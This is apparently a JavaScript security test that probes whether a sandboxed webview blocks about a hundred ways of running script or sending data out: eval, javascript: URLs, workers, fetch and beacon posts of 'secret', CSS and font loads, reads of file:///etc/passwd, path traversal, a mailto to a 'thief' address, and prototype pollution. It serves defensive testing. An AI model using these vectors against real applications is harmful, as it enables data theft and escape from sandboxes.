// What somebody tries who can run any script in the page. Answers [name, what it got] for each attempt.
const [port, done] = arguments
const home = `http://127.0.0.1:${port}`
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** An element that would load or run something, in the page for a moment; what its load event says. */
const put = (html, event = 'load') =>
  new Promise((resolve) => {
    const place = document.createElement('div')
    document.body.append(place)
    place.innerHTML = html
    for (const one of place.querySelectorAll('*')) {
      one.addEventListener(event, () => resolve(`${one.localName}: ${event}`))
      one.addEventListener('error', () => resolve(undefined))
    }
    wait(300).then(() => {
      place.remove()
      resolve(undefined)
    })
  })
/** Likewise, made part by part: innerHTML runs no script of its own accord. */
const make = (name, properties, into = document.head) =>
  new Promise((resolve) => {
    const one = document.createElement(name)
    // A frame that was refused loads, too: as an empty page.
    one.onload = () => resolve(name === 'iframe' ? undefined : `${name}: load`)
    one.onerror = () => resolve(undefined)
    for (const [key, value] of Object.entries(properties)) {
      if (key === 'text') one.textContent = value
      else one.setAttribute(key, value)
    }
    into.append(one)
    wait(300).then(() => {
      one.remove()
      resolve(undefined)
    })
  })
const style = (css) => {
  const one = document.createElement('p')
  one.textContent = 'x'
  Object.assign(one.style, css)
  document.body.append(one)
  return wait(200).then(() => one.remove())
}
const click = (attributes) => {
  const one = document.createElement('a')
  for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value)
  document.body.append(one)
  one.click()
  return wait(200).then(() => one.remove())
}
const form = (attributes) => {
  const one = document.createElement('form')
  for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value)
  document.body.append(one)
  one.submit()
  return wait(200).then(() => one.remove())
}
/** Whether an object that connects ever says so. */
const opens = (one, event = 'open') =>
  new Promise((resolve) => {
    one.addEventListener(event, () => resolve(event))
    one.addEventListener('error', () => resolve(undefined))
    wait(500).then(() => resolve(undefined))
  })
// What runs in a page of its own may still send a message.
addEventListener('message', ({ data }) => (window.ran = data))
const page = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))
const html = URL.createObjectURL(new Blob(['<script>(opener ?? parent).postMessage(1, "*")</script>'], { type: 'text/html' }))
const run = 'window.ran = 1'

const attempts = {
  // Scripts.
  'inline script': () => make('script', { text: run }),
  'script from elsewhere': () => make('script', { src: `${home}/script.js` }),
  'script as data': () => make('script', { src: `data:text/javascript,${run}` }),
  'script as blob': () => make('script', { src: page(run) }),
  'module from elsewhere': () => make('script', { type: 'module', src: `${home}/module.mjs` }),
  'import from elsewhere': () => import(`${home}/import.mjs`),
  'import of data': () => import(`data:text/javascript,${run}`),
  'import of blob': () => import(page(run)),
  eval: () => (0, eval)(run),
  Function: () => new Function(run)(),
  'timer with text': () => (setTimeout(run), wait(100)),
  'inline handler': () => put('<img src="/nothing.png" onerror="window.ran = 1">'),
  'inline handler of SVG': () => put('<svg onload="window.ran = 1"><circle r="1"/></svg>'),
  'inline handler set later': () => {
    const one = document.createElement('button')
    one.setAttribute('onclick', run)
    document.body.append(one)
    one.click()
    one.remove()
  },
  'document.write': () => {
    const frame = document.implementation.createHTMLDocument('')
    frame.write(`<script>${run}</script>`)
  },
  'javascript link': () => click({ href: `javascript:${run}` }),
  'javascript location': () => ((location.href = `javascript:${run}`), wait(100)),
  'javascript form': () => form({ action: `javascript:${run}` }),
  'javascript frame': () => make('iframe', { src: 'javascript:parent.postMessage(1, "*")' }, document.body),
  'SVG script': () => put('<svg><script>window.ran = 1</script></svg>'),
  worker: () => opens(new Worker(`${home}/worker.js`), 'message'),
  'worker as data': () => opens(new Worker('data:text/javascript,postMessage(1)'), 'message'),
  'worker as blob': () => opens(new Worker(page('postMessage(1)')), 'message'),
  'shared worker': () => opens(new SharedWorker(page('onconnect = (e) => e.ports[0].postMessage(1)')).port, 'message'),
  'service worker': () => navigator.serviceWorker.register('/worker.js').then(() => 'registered'),
  worklet: () => CSS.paintWorklet.addModule(`${home}/worklet.js`).then(() => 'added'),
  // Messages.
  fetch: () => fetch(`${home}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(() => 'sent'),
  'fetch that stays alive': () => fetch(`${home}/alive`, { keepalive: true, mode: 'no-cors' }).then(() => 'sent'),
  'fetch from the next port': () => fetch(`http://ipc.localhost:${port}/`, { mode: 'no-cors' }).then(() => 'sent'),
  'fetch of the other system’s page': () => fetch(`http://tauri.localhost:${port}/`, { mode: 'no-cors' }).then(() => 'sent'),
  'fetch of a file': () => fetch('file:///etc/passwd').then(() => 'read'),
  'fetch of an asset': () => fetch('asset://localhost/etc/passwd').then((answer) => answer.ok && 'read'),
  'fetch upwards': () => fetch('/../../../../etc/passwd').then((answer) => answer.ok && answer.text()).then((text) => text && text.includes('root:') && 'read'),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${home}/xhr`)
    request.send()
    return opens(request, 'load')
  },
  'XMLHttpRequest that waits': () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${home}/xhr`, false)
    request.send()
    return 'sent'
  },
  WebSocket: () => opens(new WebSocket(`ws://127.0.0.1:${port}/socket`)),
  EventSource: () => opens(new EventSource(`${home}/events`)),
  // It says true when it was queued; that nothing arrives is for the listener to say.
  beacon: () => (navigator.sendBeacon(`${home}/beacon`, 'secret'), wait(200)),
  WebRTC: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    return 'offered'
  },
  WebTransport: () => new WebTransport(`https://127.0.0.1:${port}/`).ready.then(() => 'ready'),
  // Pictures, sounds, fonts, styles.
  image: () => put(`<img src="${home}/image.png">`),
  'image as data': () => put('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'),
  'image set': () => put(`<img srcset="${home}/set.png 2x"><picture><source srcset="${home}/source.png"><img></picture>`),
  'input image': () => put(`<input type="image" src="${home}/input.png">`),
  'SVG image': () => put(`<svg><image href="${home}/svg.png"/><use href="${home}/use.svg#x"/><feImage href="${home}/fe.png"/></svg>`),
  video: () => put(`<video src="${home}/video" poster="${home}/poster.png" autoplay></video>`, 'loadeddata'),
  audio: () => put(`<audio src="${home}/audio" autoplay></audio>`, 'loadeddata'),
  track: () => put(`<video><track src="${home}/track.vtt" default></video>`),
  object: () => make('object', { data: `${home}/object` }, document.body),
  embed: () => make('embed', { src: `${home}/embed` }, document.body),
  'style sheet': () => make('link', { rel: 'stylesheet', href: `${home}/style.css` }),
  'style sheet as data': () => make('link', { rel: 'stylesheet', href: 'data:text/css,body{outline:1px solid}' }),
  'inline style': async () => {
    await make('style', { text: `@import url(${home}/import.css); body { --stolen: 1; background: url(${home}/style.png) }` })
    return getComputedStyle(document.body).getPropertyValue('--stolen') && 'styled'
  },
  'style attribute': () => put(`<p style="background: url(${home}/attribute.png)">x</p>`),
  'style by script': () => style({ backgroundImage: `url(${home}/background.png)` }),
  'cursor by script': () => style({ cursor: `url(${home}/cursor.png), auto` }),
  'image set by script': () => style({ backgroundImage: `image-set("${home}/set.png" 1x)` }),
  'content by script': () => style({ content: `url(${home}/content.png)` }),
  'mask by script': () => style({ maskImage: `url(${home}/mask.svg#x)`, filter: `url(${home}/filter.svg#x)` }),
  'constructed sheet': async () => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(${home}/sheet.png) } @font-face { font-family: stolen; src: url(${home}/sheet.woff2) }`)
    document.adoptedStyleSheets.push(sheet)
    await style({ fontFamily: 'stolen' })
    document.adoptedStyleSheets.pop()
  },
  font: () => new FontFace('stolen', `url(${home}/font.woff2)`).load().then(() => 'loaded'),
  // Hints.
  prefetch: () => make('link', { rel: 'prefetch', href: `${home}/prefetch` }),
  preload: () => make('link', { rel: 'preload', as: 'image', href: `${home}/preload.png` }),
  'preload for fetch': () => make('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: `${home}/preload` }),
  modulepreload: () => make('link', { rel: 'modulepreload', href: `${home}/module.mjs` }),
  preconnect: () => make('link', { rel: 'preconnect', href: home }),
  'dns-prefetch': () => make('link', { rel: 'dns-prefetch', href: '//secret.nenrin.invalid' }),
  'names of hosts in links': () => click({ ping: `${home}/ping`, href: '#x' }),
  manifest: () => make('link', { rel: 'manifest', href: `${home}/manifest.json` }),
  icon: () => make('link', { rel: 'icon', href: `${home}/icon.png` }),
  prerender: () => make('script', { type: 'speculationrules', text: `{"prerender":[{"urls":["${home}/rules"]}]}` }),
  // Leaving.
  frame: () => make('iframe', { src: `${home}/frame` }, document.body),
  'frame as data': () => make('iframe', { src: 'data:text/html,<script>parent.postMessage(1, "*")</script>' }, document.body),
  'frame with its own text': () => make('iframe', { srcdoc: '<script>parent.postMessage(1, "*")</script>' }, document.body),
  base: async () => {
    await make('base', { href: `${home}/` })
    return document.baseURI.startsWith(home) ? 'based' : undefined
  },
  refresh: () => make('meta', { 'http-equiv': 'refresh', content: `0;url=${home}/refresh` }),
  form: () => form({ action: `${home}/form`, method: 'post' }),
  'form for a new window': () => form({ action: `${home}/form`, target: '_blank' }),
  link: () => click({ href: `${home}/link` }),
  'link for a new window': () => click({ href: `${home}/blank`, target: '_blank', rel: 'opener' }),
  'link to a file': () => click({ href: 'file:///etc/passwd' }),
  'link as data': () => click({ href: 'data:text/html,<script>opener.postMessage(1, "*")</script>' }),
  'link as blob': () => click({ href: html }),
  'link by mail': () => click({ href: 'mailto:thief@e.example?body=secret' }),
  download: () => click({ href: `${home}/download`, download: 'x' }),
  'download as blob': () => click({ href: html, download: 'x.html' }),
  location: () => ((location.href = `${home}/location`), wait(200)),
  'location as blob': () => ((location.href = html), wait(200)),
  'location of the other system': () => ((location.href = `http://tauri.localhost:${port}/`), wait(200)),
  'location of a file': () => ((location.href = 'file:///etc/passwd'), wait(200)),
  'a new window': () => window.open(`${home}/open`) && 'opened',
  'an empty new window': () => window.open('about:blank') && 'opened',
  'a named window': () => window.open(`${home}/open`, 'main') && 'opened',
  // The page's own ground.
  'Object.prototype': () => {
    Object.prototype.ran = 1
    const changed = {}.ran
    delete Object.prototype.ran
    return changed && 'changed'
  },
  '__TAURI__': () => window.__TAURI__ && 'there',
}

;(async () => {
  const told = []
  for (const [name, attempt] of Object.entries(attempts)) {
    let got
    try {
      got = await Promise.race([attempt(), wait(1500)])
    } catch {
      got = undefined
    }
    told.push([name, got ? String(got) : 'nothing'])
  }
  done(told)
})()
